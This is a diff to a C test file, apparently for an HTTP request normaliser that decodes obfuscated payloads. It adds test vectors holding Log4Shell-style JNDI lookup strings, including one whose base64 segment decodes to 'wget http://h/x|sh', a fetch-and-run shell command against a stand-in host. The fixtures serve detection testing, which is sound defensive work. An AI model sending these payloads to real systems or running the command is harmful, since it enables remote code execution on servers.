@@ -154,6 +154,8 @@ static void test_fields(void)
 		{"POST / HTTP/1.1\r\nContent-Type: text/plain\r\nContent-Length: 7\r\n\r\na+b\0%41",
 		    1, NORMALIZE_BODY, "a+b"},                                  /* raw (strlen cut) */
 		{"POST / HTTP/1.1\r\n\r\n<?php x", 1, NORMALIZE_BODY, "<?php x"}, /* no length */
+		{"POST / HTTP/1.1\r\nContent-Type: text/xml\r\n\r\n<a>&#36;&#x7B;jndi:x&#125; &lt;b&gt; &#; &#x; &#99999999; &zz; &amp</a>",
+		    1, NORMALIZE_BODY, "<a>${jndi:x} <b> &#; &#x; &#99999999; &zz; &amp</a>"},
 		{"POST / HTTP/1.1\r\nContent-Type: application/json\r\n\r\n"
 		    "{\"a\": \"\\u0024\\u007bjndi:ldap:\\/\\/h\\/a}\\\"\"}", 1, NORMALIZE_BODY,
 		    "{\"a\": \"${jndi:ldap://h/a}\"\"}"},
@@ -168,6 +170,9 @@ static void test_fields(void)
 		    "Authorization: Basic JHtqbmRpOmRuczovL2gvYn0=\r\n\r\n", 1, NORMALIZE_LOG4J,
 		    "jndi:ldap://h/m\njndi:rmi://h/u\njndi:dns://h/b"},
 		{"GET / HTTP/1.1\r\nUser-Agent: jndi:ldap://h\r\n\r\n", 1, NORMALIZE_LOG4J, ""},
+		{"GET / HTTP/1.1\r\nX: ${jndi:ldap://h:1389/Basic/Command/Base64/d2dldCBodHRwOi8vaC94fHNo}\r\n\r\n",
+		    1, NORMALIZE_LOG4J, "jndi:ldap://h:1389/Basic/Command/Base64/d2dldCBodHRwOi8vaC94fHNo\n"
+		    "wget http://h/x|sh"},
 		{"\x16\x03\x01\x02\x00\x01", 0, NORMALIZE_METHOD, ""},        /* TLS: not HTTP */
 		{"hello world\r\n", 0, NORMALIZE_TARGET, ""},
 		{"GET\r\n\r\n", 0, NORMALIZE_METHOD, ""},
